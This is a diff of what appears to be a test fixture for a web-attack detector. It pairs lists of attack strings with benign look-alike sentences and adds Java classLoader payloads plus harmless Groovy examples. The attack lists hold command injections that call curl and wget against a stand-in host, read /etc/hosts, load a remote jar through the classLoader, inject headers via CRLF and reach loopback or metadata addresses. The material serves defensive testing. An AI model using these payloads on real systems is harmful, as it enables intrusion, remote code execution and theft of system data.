@@ -22,7 +22,7 @@ const ATTACKS: Readonly<Record<string, readonly string[]>> = {
   "references to what a request holds": ["$z=&$_POST; 0|$y=$z[a]", "; x|$q=&$_REQUEST;", "$_=&$_GET[0]"],
   "back-ticks in braces and brackets": ["b { $ {`curl http://x.example/a`}}", "9${${print `uname -a`}}", "{${`cat /etc/hosts`}}", "/a/h=gPath[`id > /tmp/z`]/1.ipa", "k=v[`wget http://x.example`]"],
   "words between separators": ["&set&", ";env;", "& dir &", "/dev/null; id; #", "eth0; ls;#"],
-  "scripts and classes of Java": ["class.module.classLoader.URLs[0]=0", "class.module.classLoader.DefaultAssertionStatus", "=(use x;ReflectUtils.defineClass('t',b))", "var p=new SpelExpressionParser();p.parseExpression(b)", 'load("nashorn:mozilla_compat.js")', "importPackage(Packages.java.io)", '}}}{{async async=false}}{{groovy}}println("id")', "${__fr_locale__=sql('A',DECODE('x'),1,1)}"],
+  "scripts and classes of Java": ["class.module.classLoader.URLs[0]=0", "class.classLoader.URLs[0]=jar:http://h.example/a.jar!/", "class.classLoader.resources.dirContext.docBase", "class.classLoader.parent.resources", "class.module.classLoader.DefaultAssertionStatus", "=(use x;ReflectUtils.defineClass('t',b))", "var p=new SpelExpressionParser();p.parseExpression(b)", 'load("nashorn:mozilla_compat.js")', "importPackage(Packages.java.io)", '}}}{{async async=false}}{{groovy}}println("id")', "${__fr_locale__=sql('A',DECODE('x'),1,1)}"],
   "a header behind blanks": [" \r\nX-Added-By: z", "  \nX-Added-By: z", " \rX-Added-By: z", "\t\r\nX-Trace-Id: 1", "en \r\nSet-Cookie: a=b", "/home \rX-Added-By: z", "/a?b=c \r\nX-Added-By: z"],
   "a header behind an address that ends in steps up": ["www.example.com/..\r\nown-line:own-line", "www.example.com//..\r\nmy-test: 1", "www.example.com/../\r\nown-line:1", "example.com/%2f..\r\nab-cd:e"],
   "addresses of this host in another spelling": ["http://[::]:3128/", "http://[0000::1]:3128/", "http://[0:0::0:1]:8080/", "http://[0000:0000::0001]/", "http://0x5a5a5a5a7f000001/", "http://0x41414141A9FEA9FE/latest"],
@@ -35,7 +35,7 @@ const ATTACKS: Readonly<Record<string, readonly string[]>> = {
 }; // biome-ignore format: one list each
 
 const HONEST: Readonly<Record<string, readonly string[]>> = {
-  "code talked about": ["When does die() differ from exit()?", "Use md5 or sha1, then echo it", "exit code 1; see the log", "the class loader of a module", "print `name` in bold", "echo the words of file_get_contents", "die Straße; das Haus", "Groovy is a language {{groovy-lang}}", "wget and curl", "[`npm install`](https://example.com)", "see [`git add -p`](x)"],
+  "code talked about": ["When does die() differ from exit()?", "Use md5 or sha1, then echo it", "exit code 1; see the log", "the class loader of a module", "In Groovy, this.class.classLoader.getResource('a.txt') finds it", "Foo.class.classLoader is null for the platform's own classes", "print `name` in bold", "echo the words of file_get_contents", "die Straße; das Haus", "Groovy is a language {{groovy-lang}}", "wget and curl", "[`npm install`](https://example.com)", "see [`git add -p`](x)"],
   "separators between words": ["salt & pepper", "R&D & IT", "a; b; #1", "set & match", "Tom & Jerry; cat & mouse", "item; date; #42", "R&B"],
   "lines of a text": ["Hello \r\nx-ray: at 9", "and/or\nre-check: b", "Hello \nx-ray: tomorrow at 9", "see www.example.com/\nopen-hours: 9-17", "shopping list \r\n- milk", "name\nsub-title: b", "Dear all, \r\nSee you"],
   addresses: ["http://[2001:db8::1]:8080/", "http://localhost:8080/", "https://example.com/0x41", "https://example.com/a/../b"],
